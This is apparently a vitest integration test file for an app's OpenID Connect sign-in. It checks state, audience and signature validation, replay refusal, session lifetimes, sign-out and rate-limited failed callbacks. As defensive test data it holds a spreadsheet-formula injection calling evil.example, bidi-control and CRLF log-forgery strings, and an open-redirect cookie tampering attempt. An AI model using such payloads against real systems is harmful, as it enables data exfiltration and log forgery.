import type { FastifyInstance, LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AppConfig } from '../../src/server/config.js';
import { Secret } from '../../src/server/secret.js';
import { queryAudit } from '../../src/server/store/audit.js';
import { findSession } from '../../src/server/store/sessions.js';
import { sessionHash } from '../../src/server/plugins/sessions.js';
import type { HistoryStore } from '../../src/server/store/history-store.js';
import { startHistoryStack, type HistoryStack } from '../helpers/history-stack.js';
import { openAppStore } from '../helpers/history-store.js';
import {
  signInAtProvider,
  startTestProvider,
  type TestProvider,
} from '../helpers/oidc-provider.js';

/*
 * OpenID Connect sign-in (issue 21) against a real provider (oidc-provider) on loopback: the app
 * is driven with inject, the provider over real HTTP with its own cookies, as a browser would.
 * Sign-in with the role from a group claim, the checks the specification asks for (state,
 * audience, a replayed code), session expiry, sign-out here and at the provider.
 */
const APP = 'http://127.0.0.1:3999';
const HOUR = 3_600_000;

let store: HistoryStore;
let stack: HistoryStack;
let provider: TestProvider;
let app: FastifyInstance;
let access: AppConfig['access'];
beforeAll(async () => {
  provider = await startTestProvider(APP);
  store = await openAppStore();
  access = {
    dashboardToken: null,
    trustedProxyAuthHeader: null,
    allowAnonymous: false,
    oidc: {
      issuerUrl: provider.issuer,
      clientId: provider.clientId,
      clientSecret: new Secret(provider.clientSecret),
      redirectUrl: `${APP}/auth/callback`,
      roleClaim: 'groups',
      allowedEmailDomains: ['example.com'],
    },
    roles: { editors: ['risk-editors'], admins: ['risk-admins'] },
    sessionLifetimes: { idleMs: 8 * HOUR, absoluteMs: 7 * 24 * HOUR },
  };
  stack = await startHistoryStack(store, { start: Date.now(), config: { access } });
  app = stack.app;
}, 60_000);
afterAll(async () => {
  await stack?.close();
  await store?.close();
  await provider?.close();
});

function cookieOf(response: LightMyRequestResponse, name: string): string | undefined {
  return response.cookies.find((cookie) => cookie.name === name)?.value;
}

/**
 * Signs `login` in at the provider (its development login form, then consent) starting from the
 * app's /auth/login; returns the callback URL the provider sends the browser to and the app's
 * pending sign-in cookie.
 */
async function throughProvider(login: string): Promise<{ callback: string; pending: string }> {
  const start = await app.inject({ url: '/auth/login?return_to=/map' });
  expect(start.statusCode).toBe(303);
  const pending = cookieOf(start, 'grd_signin');
  if (!pending) throw new Error('no pending sign-in cookie');
  const callback = await signInAtProvider(start.headers.location as string, APP, login);
  return { callback: callback.slice(APP.length), pending };
}

async function signIn(login: string): Promise<string> {
  const { callback, pending } = await throughProvider(login);
  const done = await app.inject({ url: callback, cookies: { grd_signin: pending } });
  expect(done.statusCode, done.body).toBe(303);
  expect(done.headers.location).toBe('/map');
  const session = cookieOf(done, 'grd_session');
  if (!session) throw new Error('no session');
  return session;
}

const me = (session: string) => app.inject({ url: '/api/me', cookies: { grd_session: session } });

describe('signing in', () => {
  it('every page and API call needs it; health probes stay open', async () => {
    const api = await app.inject({ url: '/api/watchlists' });
    expect(api.statusCode).toBe(401);
    expect(api.json().error).toBe(
      'Sign-in required: sign in at /auth/login, or send Authorization: Bearer <API token>',
    );
    const page = await app.inject({ url: '/map?x=1', headers: { accept: 'text/html' } });
    expect(page.statusCode).toBe(303);
    expect(page.headers.location).toBe('/auth/login?return_to=%2Fmap%3Fx%3D1');
    expect((await app.inject({ url: '/healthz' })).statusCode).toBe(200);
  });

  it("a shared link's page comes back after the provider's round trip (issue 33, point 11)", async () => {
    const page = await app.inject({
      url: '/country/MLI?trend=7d',
      headers: { accept: 'text/html' },
    });
    expect(page.statusCode).toBe(303);
    const start = await app.inject({ url: page.headers.location as string });
    expect(start.statusCode).toBe(303);
    const pending = cookieOf(start, 'grd_signin') ?? '';
    const callback = await signInAtProvider(start.headers.location as string, APP, 'vera');
    const done = await app.inject({
      url: callback.slice(APP.length),
      cookies: { grd_signin: pending },
    });
    expect(done.statusCode, done.body).toBe(303);
    expect(done.headers.location).toBe('/country/MLI?trend=7d');
  });

  it('a viewer signs in with a session cookie that is HttpOnly, SameSite=Lax and new', async () => {
    const { callback, pending } = await throughProvider('vera');
    const done = await app.inject({
      url: callback,
      cookies: {
        grd_signin: pending,
        grd_session: 'an-old-session-id-the-browser-had-before-0000',
      },
    });
    expect(done.statusCode).toBe(303);
    const cookie = done.cookies.find((c) => c.name === 'grd_session');
    expect(cookie).toMatchObject({
      httpOnly: true,
      sameSite: 'Lax',
      path: '/',
      maxAge: 7 * 24 * 3600,
    });
    expect(cookie?.value).not.toBe('an-old-session-id-the-browser-had-before-0000');
    const who = await me(cookie?.value ?? '');
    expect(who.json()).toEqual({
      ok: true,
      name: 'Vera Viewer',
      email: 'vera@example.com',
      role: 'viewer',
      via: 'oidc',
      sign_out: '/auth/logout',
    });
  });

  it('takes the role from the group claim: editors may make team lists, viewers may not', async () => {
    const list = { name: 'Sahel', countries: ['MLI'] };
    const eddie = await signIn('eddie');
    expect((await me(eddie)).json()).toMatchObject({ name: 'Eddie Editor', role: 'editor' });
    const vera = await signIn('vera');
    const refused = await app.inject({
      method: 'POST',
      url: '/api/watchlists',
      cookies: { grd_session: vera },
      payload: list,
    });
    expect(refused.statusCode).toBe(403);
    const allowed = await app.inject({
      method: 'POST',
      url: '/api/watchlists',
      cookies: { grd_session: eddie },
      payload: list,
    });
    expect(allowed.statusCode).toBe(201);
    // A viewer's personal list is theirs.
    const mine = await app.inject({
      method: 'POST',
      url: '/api/watchlists',
      cookies: { grd_session: vera },
      payload: { ...list, scope: 'user' },
    });
    expect(mine.statusCode).toBe(201);
    expect(mine.json().watchlist.owner).toBe('oidc:vera');
  });

  it('refuses an e-mail domain outside OIDC_ALLOWED_EMAIL_DOMAINS, with no session', async () => {
    const { callback, pending } = await throughProvider('mallory');
    const done = await app.inject({ url: callback, cookies: { grd_signin: pending } });
    expect(done.statusCode).toBe(403);
    expect(done.body).toContain('only addresses at example.com may sign in');
    expect(cookieOf(done, 'grd_session')).toBeUndefined();
  });
});

describe('a callback that must fail', () => {
  async function expectRefused(done: LightMyRequestResponse, words: string) {
    expect(done.statusCode).toBe(400);
    expect(done.headers['content-type']).toMatch(/^text\/html/);
    expect(done.body).toContain(words);
    expect(done.body).toContain('<a href="/auth/login">Start signing in again</a>');
    expect(cookieOf(done, 'grd_session')).toBeUndefined();
  }

  it('a tampered state is refused with a way to start again', async () => {
    const { callback, pending } = await throughProvider('eddie');
    const tampered = callback.replace(/state=[^&]+/, 'state=someone-elses-state');
    await expectRefused(
      await app.inject({ url: tampered, cookies: { grd_signin: pending } }),
      'the answer does not belong to the sign-in this browser started',
    );
  });

  it('an ID token for another audience is refused (properly signed, wrong aud)', async () => {
    const { callback, pending } = await throughProvider('eddie');
    provider.alterIdToken((claims) => {
      claims.aud = 'another-application';
    });
    try {
      await expectRefused(
        await app.inject({ url: callback, cookies: { grd_signin: pending } }),
        'the identity provider’s answer could not be verified',
      );
    } finally {
      provider.alterIdToken(null);
    }
  });

  it('an ID token whose signature is not the provider’s is refused', async () => {
    const { callback, pending } = await throughProvider('vera');
    provider.alterIdToken((claims) => {
      claims.groups = ['risk-admins'];
    }, 'forged');
    try {
      await expectRefused(
        await app.inject({ url: callback, cookies: { grd_signin: pending } }),
        'the identity provider’s answer could not be verified',
      );
    } finally {
      provider.alterIdToken(null);
    }
  });

  it('a replayed callback creates no session, with or without the pending cookie', async () => {
    const { callback, pending } = await throughProvider('eddie');
    const first = await app.inject({ url: callback, cookies: { grd_signin: pending } });
    expect(first.statusCode).toBe(303);
    // The first answer cleared the pending cookie: the browser replaying it has none.
    expect(first.cookies.find((c) => c.name === 'grd_signin')?.maxAge).toBe(0);
    await expectRefused(
      await app.inject({ url: callback }),
      'this browser has no sign-in in progress',
    );
    // Someone who kept the cookie too: the provider refuses a code used once already.
    await expectRefused(
      await app.inject({ url: callback, cookies: { grd_signin: pending } }),
      'the identity provider refused the sign-in code',
    );
  });
});

describe('sessions', () => {
  it('end after the idle lifetime, and after the absolute one however busy', async () => {
    const idle = await signIn('vera');
    stack.clock.advance(8 * HOUR - 60_000);
    expect((await me(idle)).statusCode).toBe(200);
    stack.clock.advance(8 * HOUR);
    expect((await me(idle)).statusCode).toBe(401);

    // Active every 7 hours (inside the idle lifetime) until the 7 days are up.
    const busy = await signIn('vera');
    for (let hours = 7; hours <= 7 * 24; hours += 7) {
      stack.clock.advance(7 * HOUR);
      const answer = await me(busy);
      expect(answer.statusCode, `after ${hours} hours`).toBe(hours < 7 * 24 ? 200 : 401);
    }
  });

  it('survive a restart (they are in the store)', async () => {
    const session = await signIn('eddie');
    await stack.close();
    stack = await startHistoryStack(store, { start: stack.clock.now(), config: { access } });
    app = stack.app;
    const again = stack;
    const who = await again.app.inject({ url: '/api/me', cookies: { grd_session: session } });
    expect(who.json()).toMatchObject({ name: 'Eddie Editor', role: 'editor' });
  });

  it('sign-out ends the session here and sends the browser to the provider to end it there', async () => {
    const session = await signIn('eddie');
    // As the user menu's button sends it: a form post with no fields.
    const out = await app.inject({
      method: 'POST',
      url: '/auth/logout',
      cookies: { grd_session: session },
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      payload: '',
    });
    expect(out.statusCode).toBe(303);
    const end = new URL(out.headers.location as string);
    expect(end.origin).toBe(provider.issuer);
    expect(end.searchParams.get('post_logout_redirect_uri')).toBe(`${APP}/auth/signed-out`);
    expect(end.searchParams.get('id_token_hint')).toMatch(/^ey/);
    expect(cookieOf(out, 'grd_session')).toBe('');
    expect(out.headers['clear-site-data']).toBe('"cache", "storage"');
    expect((await me(session)).statusCode).toBe(401);
  });

  it('an admin lists sessions and ends one', async () => {
    const ada = await signIn('ada');
    const vera = await signIn('vera');
    const listed = await app.inject({ url: '/api/sessions', cookies: { grd_session: ada } });
    expect(listed.statusCode).toBe(200);
    const sessions = listed.json().sessions as { id: string; name: string }[];
    expect(listed.body).not.toContain(vera);
    const target = sessions.find((s) => s.name === 'Vera Viewer');
    if (!target) throw new Error('Vera is not listed');
    const ended = await app.inject({
      method: 'DELETE',
      url: `/api/sessions/${target.id}`,
      cookies: { grd_session: ada },
    });
    expect(ended.statusCode).toBe(200);
    expect((await me(vera)).statusCode).toBe(401);
    // A viewer may not list them.
    const vera2 = await signIn('vera');
    expect(
      (await app.inject({ url: '/api/sessions', cookies: { grd_session: vera2 } })).statusCode,
    ).toBe(403);
  });
});

describe('the provider’s tokens a session keeps', () => {
  it('are sealed in the store and never answered, not even to an admin', async () => {
    const ada = await signIn('ada');
    const row = await findSession(store.db, sessionHash(ada));
    const sealed = row?.providerGrant ?? '';
    expect(sealed).toMatch(/^[\w-]+\.[\w-]+\.[\w-]+$/);
    expect(Buffer.from(sealed.split('.')[2] ?? '', 'base64url').toString('latin1')).not.toMatch(
      /accessToken|idClaims|ada@example\.com/,
    );
    const listed = await app.inject({ url: '/api/sessions', cookies: { grd_session: ada } });
    expect(listed.statusCode).toBe(200);
    expect(listed.body).not.toMatch(/grant|token/i);
  });
});

describe('failed callbacks (anyone can send one, signed in or not)', () => {
  /** The failed sign-ins the audit log holds from these addresses. */
  async function failuresFrom(addresses: Set<string>) {
    const rows = await queryAudit(store.db, { action: 'sign-in failed' }, 100_000);
    return rows.filter((row) => row.address !== null && addresses.has(row.address));
  }

  it('2,000 bogus callbacks from one address write a bounded number of audit entries, then 429', async () => {
    const statuses = new Map<number, number>();
    for (let i = 0; i < 2000; i++) {
      const answer = await app.inject({
        url: '/auth/callback?code=x&state=y',
        remoteAddress: '198.51.100.7',
      });
      statuses.set(answer.statusCode, (statuses.get(answer.statusCode) ?? 0) + 1);
    }
    expect([...statuses.keys()].sort()).toEqual([400, 429]);
    expect(statuses.get(400)).toBeLessThanOrEqual(12);
    expect((await failuresFrom(new Set(['198.51.100.7']))).length).toBeLessThanOrEqual(12);
  });

  it('2,000 bogus callbacks from 2,000 addresses write a bounded number of audit entries', async () => {
    const addresses = new Set<string>();
    for (let i = 0; i < 2000; i++) {
      const address = `198.18.${Math.floor(i / 250)}.${i % 250}`;
      addresses.add(address);
      const answer = await app.inject({
        url: '/auth/callback?code=x&state=y',
        remoteAddress: address,
      });
      expect(answer.statusCode).toBe(400);
    }
    const written = (await failuresFrom(addresses)).length;
    expect(written).toBeGreaterThan(0);
    expect(written).toBeLessThanOrEqual(110);
  });

  it('keeps only plain, bounded words of the provider: no bidi controls, no formula, no 500 characters', async () => {
    const address = '203.0.113.9';
    // The floods above used up the audit log's allowance of failed sign-ins: a minute refills it.
    stack.clock.advance(2 * 60_000);
    const start = await app.inject({ url: '/auth/login', remoteAddress: address });
    const state = new URL(start.headers.location as string).searchParams.get('state') ?? '';
    const hostile = {
      error: '\u202Eaccess_denied\u202C',
      error_description: `=HYPERLINK("https://evil.example/?"&A1,"Click")\u2066\r\nforged line ${'x'.repeat(500)}`,
    };
    const query = new URLSearchParams({ ...hostile, state, iss: provider.issuer });
    const done = await app.inject({
      url: `/auth/callback?${query}`,
      remoteAddress: address,
      cookies: { grd_signin: cookieOf(start, 'grd_signin') ?? '' },
    });
    expect(done.statusCode).toBe(400);
    const [entry] = await failuresFrom(new Set([address]));
    const detail = entry?.detail ?? '';
    expect(detail).toMatch(
      /^the identity provider refused the sign-in \(it said: access_denied; '=HYPERLINK/,
    );
    // The page shows the same words, HTML-escaped (&#39; is the ').
    for (const stored of [detail, done.body.replaceAll('&#39;', "'")]) {
      expect(stored).not.toMatch(/[\u202a-\u202e\u2066-\u2069\r\n]forged/);
      expect(stored).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
      expect(stored).not.toMatch(/(^|[^'])=HYPERLINK\(/);
    }
    expect(detail.length).toBeLessThanOrEqual(300);
    expect(detail).not.toContain('x'.repeat(200));
  });
});

describe('the pending sign-in cookie', () => {
  it('is signed: one altered to return elsewhere sends nobody anywhere and opens no session', async () => {
    const { callback, pending } = await throughProvider('eddie');
    const [payload = '', mac] = pending.split('.');
    const value = JSON.parse(Buffer.from(payload, 'base64url').toString('utf8')) as Record<
      string,
      unknown
    >;
    expect(value.returnTo).toBe('/map');
    value.returnTo = 'https://evil.example/';
    const altered = [Buffer.from(JSON.stringify(value)).toString('base64url'), mac]
      .filter((part) => part !== undefined)
      .join('.');
    const done = await app.inject({ url: callback, cookies: { grd_signin: altered } });
    expect(done.statusCode).toBe(400);
    expect(done.headers.location).toBeUndefined();
    expect(done.body).toContain('this browser has no sign-in in progress');
    expect(cookieOf(done, 'grd_session')).toBeUndefined();
  });
});
